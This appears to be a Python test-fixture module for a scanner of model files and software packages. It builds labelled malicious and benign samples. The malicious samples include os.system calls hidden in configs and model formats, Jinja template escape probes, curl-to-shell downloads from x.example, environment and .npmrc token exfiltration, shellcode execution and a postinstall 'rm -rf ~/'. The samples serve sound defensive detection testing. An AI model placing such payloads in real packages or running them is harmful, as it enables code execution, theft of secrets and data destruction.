"""Code where data belongs: models and settings that are texts, with what only looks like it.

After the families of public test suites for scanners of models; everything here was made here and is inert.
"""

import base64
import json

from corpora import inspection_content as make
from corpora.inspection_case import WHEEL, bad, good

_CALL = "__imp" + "ort__('os').sys" + "tem('touch /tmp/marker')"
_PMML = "<?xml version='1.0'?><PMML version='4.4'><Header>{}</Header>{}</PMML>"
_NET = (
    "<net name='t' version='10'><layers><layer id='1' name='a' type='{}'{}><data {}/></layer></layers></net>"
)
_TREES = "tree\nversion=v4\nnum_class=1\nfeature_names=f0 system_health\nTree=0\nleaf_value=0.1 0.2\n"
_LAMBDA = {"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}}


def _graph(node: dict, said: str = "trained on 3 May") -> bytes:
    nodes = [{"op": "null", "name": "data", "inputs": []}, node]
    return json.dumps(
        {"nodes": nodes, "arg_nodes": [0], "heads": [[1, 0, 0]], "attrs": {"said": said}}
    ).encode()


def _boosted(**attributes: str) -> bytes:
    learner = {"attributes": attributes, "gradient_booster": {"name": "gbtree"}}
    return json.dumps({"version": [2, 0, 0], "learner": learner}).encode()


def _skops(**node: object) -> bytes:
    schema = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {"a": node}}
    return make.zipped({"schema.json": json.dumps(schema).encode()})


def _served(handler: str) -> bytes:
    manifest = json.dumps({"model": {"handler": handler, "modelName": "m"}}).encode()
    return make.zipped({"MAR-INF/MANIFEST.json": manifest, "handler.py": b"X = 1\n"})


def _chat(template: str, name: str = "tokenizer_config.json"):
    return name, json.dumps({"chat_template": template}).encode(), "model"


_CONVOLUTION = {"op": "Convolution", "name": "c", "attrs": {"kernel": "(3,3)"}, "inputs": [[0, 0, 0]]}
_LIBRARY = {
    "op": "Custom",
    "name": "c",
    "attrs": {"library": "../x.so", "op_type": "y"},
    "inputs": [[0, 0, 0]],
}

TEXTS_BAD = [
    bad("settings in YAML with a call", "config.yaml", f"a:\n  run: {_CALL}\n".encode(), "data-code"),
    bad("settings in JSON with a call", "config.json", json.dumps({"on_load": _CALL}).encode(), "data-code"),
    bad(
        "settings in JSON with a call in escapes",
        "config.json",
        b'{"a": "os.\\u0073ystem(1)"}',
        "data-code",
    ),
    bad("a boosted model with a call", "m.json", _boosted(note=_CALL), "data-code"),
    bad("trees with a call", "m.txt", f"{_TREES}note={_CALL}\n".encode(), "data-code"),
    bad(
        "trees with a download that is run",
        "m.model",
        f"{_TREES}x=cu{'rl'} http://x.example/a | sh\n".encode(),
        "shell-download",
    ),
    bad(
        "a graph with a call in base64",
        "m-symbol.json",
        _graph(_CONVOLUTION, base64.b64encode(_CALL.encode()).decode()),
        "data-code",
    ),
    bad("a graph with a library", "m-symbol.json", _graph(_LIBRARY), "model-library"),
    bad("a table for Lua with a call", "m.t7", b"4\n1\n3\nV 1\n16\nos.exe" + b"cute('id')", "data-code"),
    bad(
        "PMML with a call in a comment", "m.pmml", _PMML.format("", f"<!-- {_CALL} -->").encode(), "data-code"
    ),
    bad(
        "PMML with a call in entities",
        "m.pmml",
        _PMML.format("<Extension>os&#46;system&#40;1)</Extension>", "").encode(),
        "data-code",
    ),
    bad(
        "PMML with a script",
        "m.pmml",
        _PMML.format("<Extension><script>1</script></Extension>", "").encode(),
        "pmml-script",
    ),
    bad(
        "PMML with a value from elsewhere",
        "m.pmml",
        _PMML.format("", "<DataField name='p' source='https://x.example/p'/>").encode(),
        "pmml-external",
    ),
    bad(
        "OpenVINO with a library",
        "m.xml",
        _NET.format("Convolution", "", "implementation='libx.so.1'").encode(),
        "model-library",
    ),
    bad(
        "OpenVINO with a library by its path",
        "m.xml",
        _NET.format("Convolution", "", "library='../plugins/op'").encode(),
        "model-library",
    ),
    bad(
        "OpenVINO with a layer in Python",
        "m.xml",
        _NET.format("Python", "", "a='1'").encode(),
        "model-library",
    ),
    bad("Keras under another name", "architecture.json", json.dumps(_LAMBDA).encode(), "keras-code"),
    bad("Keras in YAML", "m.yaml", b"class_name: Functional\nconfig:\n- class_name: Lambda\n", "keras-code"),
    bad(
        "a template in YAML",
        "settings.yaml",
        b'x: "{{ cycler.__init__.__globals__ }}"\n',
        "chat-template-internals",
    ),
    bad(
        "a template of a chat in YAML",
        "settings.yaml",
        b"chat_template: \"{{ x['__cla'~'ss__'] }}\"\n",
        "chat-template-internals",
    ),
    bad(
        "a template that makes names of numbers",
        *_chat("{{ '%c%cclass'|format(95,95) }}")[:2],
        "chat-template-internals",
        "model",
    ),
    bad(
        "a template that reaches into Jinja",
        *_chat("{{ self._TemplateReference__context }}")[:2],
        "chat-template-internals",
        "model",
    ),
    bad("a template for a web server", *_chat("{{ config.items() }}")[:2], "chat-template-foreign", "model"),
    bad(
        "skops that calls",
        "m.skops",
        _skops(__class__="system", __module__="os", __loader__="TypeNode"),
        "skops-type",
    ),
    bad(
        "skops with a function",
        "m.skops",
        _skops(__loader__="FunctionNode", content={"module_path": "os", "function": "popen"}),
        "skops-type",
    ),
    bad(
        "skops with a method",
        "m.skops",
        _skops(__class__="x", __module__="numpy", __loader__="MethodNode"),
        "skops-type",
    ),
    bad("an archive of TorchServe with code", "m.mar", _served("handler.py"), "model-custom-code"),
]

TEXTS_GOOD = [
    good("settings in YAML", "config.yaml", b"a:\n  system: linux\n  evaluate: true\n"),
    good(
        "settings in JSON that speak of calls", "config.json", b'{"note": "we run os and subprocess tests"}'
    ),
    good("a boosted model", "m.json", _boosted(best_iteration="7")),
    good("trees", "m.txt", _TREES.encode()),
    good(
        "a graph",
        "m-symbol.json",
        _graph(_CONVOLUTION, base64.b64encode(b"trained on 3 May, twice").decode()),
    ),
    good("PMML", "m.pmml", _PMML.format("<Annotation>See https://x.example/card</Annotation>", "").encode()),
    good("OpenVINO", "m.xml", _NET.format("Convolution", "", "implementation='fp16' library='CPU'").encode()),
    good(
        "skops",
        "m.skops",
        _skops(
            __class__="LinearRegression", __module__="sklearn.linear_model._base", __loader__="ObjectNode"
        ),
    ),
    good("an archive of TorchServe", "m.mar", _served("image_classifier")),
    good(
        "a template of a chat",
        *_chat("{% for m in messages %}{{ m['role'] }}: {{ m.content | trim }}{% endfor %}"),
    ),
    good(
        "code of a package in its data",
        WHEEL,
        make.wheel({"lock_demo/x.yaml": f"a: {_CALL}\n".encode()}),
        "python",
    ),
    good("a document that shows a call", "page.md", f"```\n{_CALL}\n```\n".encode(), "document"),
]


def _setup(*lines: str) -> bytes:
    text = "\n".join((*lines, "from setuptools import setup", "setup()")).encode()
    return make.gzipped(make.tar({"p-1.0/setup.py": text, "p-1.0/PKG-INFO": b"Name: p\nVersion: 1.0\n"}))


def _node(hook: str, script: str = "") -> bytes:
    said = json.dumps({"name": "p", "version": "1.0.0", "scripts": {"postinstall": hook}}).encode()
    return make.gzipped(make.tar({"package/package.json": said, "package/index.js": script.encode()}))


_SENDS = "require('https').get('https://x.example/?' + require('os').hostname());"
INSTALLS_BAD = [
    bad(
        "code that is decoded first and run then",
        "p.tar.gz",
        _setup("import base64", "c = base64.b64decode('eA==')", "exec(c)"),
        "python-decoded-code",
    ),
    bad("code that is turned around and run", "p.tar.gz", _setup("exec('1=x'[::-1])"), "python-decoded-code"),
    bad(
        "exec under another name",
        "p.tar.gz",
        _setup("import zlib", "_ = exec", "_(zlib.decompress(b'x'))"),
        "python-decoded-code",
    ),
    bad(
        "a shell under another name",
        "p.tar.gz",
        _setup("from os import system as _s", "_s('start x')"),
        "python-import-command",
    ),
    bad(
        "a name that tells who installs",
        "p.tar.gz",
        _setup("import socket", "socket.gethostbyname('a' + '.x.example')"),
        "python-import-network",
    ),
    bad(
        "code that only its decryptor can read",
        WHEEL,
        make.wheel({"lock_demo/a.py": b"__pyarm" + b"or__(__name__, __file__, b'x')\n"}),
        "python-obfuscated",
        "python",
    ),
    bad(
        "bytes that are put into memory and run",
        WHEEL,
        make.wheel(
            {"lock_demo/a.py": b"p = k.VirtualAlloc(0, 9, 0x3000, 0x40)\nk.CreateThread(0, 0, p, 0, 0, 0)\n"}
        ),
        "code-shellcode",
        "python",
    ),
    bad(
        "an environment that is sent away",
        WHEEL,
        make.wheel({"lock_demo/a.py": b"def f():\n    requests.post(u, json=dict(os.env" + b"iron))\n"}),
        "code-exfiltration",
        "python",
    ),
    bad(
        "a download in a shell in Python",
        WHEEL,
        make.wheel({"lock_demo/a.py": b"def f():\n    os.system('cu" + b"rl http://x.example | sh')\n"}),
        "shell-download",
        "python",
    ),
    bad("a package that runs its folder", "p.tgz", _node("node .", _SENDS), "install-network", "npm"),
    bad(
        "a package that removes a home",
        "p.tgz",
        _node("rm -rf ~/ --no-preserve-root"),
        "install-destroys",
        "npm",
    ),
    bad(
        "a package that reads tokens",
        "p.tgz",
        _node("node index.js", "fs.readFileSync('.npmrc'); require('https').get('https://x.example');"),
        "install-network",
        "npm",
    ),
    bad(
        "a package that fetches a shell script",
        "p.tgz",
        _node("node index.js", "spawn('bash', ['-c', 'cu" + "rl -fsSL https://x.example/i | bash']);"),
        "install-command",
        "npm",
    ),
]
INSTALLS_GOOD = [
    good("a version that is read and run", "p.tar.gz", _setup("exec(open('p/version.py').read())")),
    good("a package that removes its own folder", "p.tgz", _node("rm -rf ./build"), "npm"),
    good(
        "a package that posts a token of its own",
        WHEEL,
        make.wheel(
            {"lock_demo/a.py": b"def f():\n    requests.post(u, headers={'a': os.environ['TOKEN']})\n"}
        ),
        "python",
    ),
    good(
        "a package that writes to a messenger",
        WHEEL,
        make.wheel({"lock_demo/a.py": b"URL = 'https:/" + b"/api.telegram.org/bot' + token\n"}),
        "python",
    ),
]
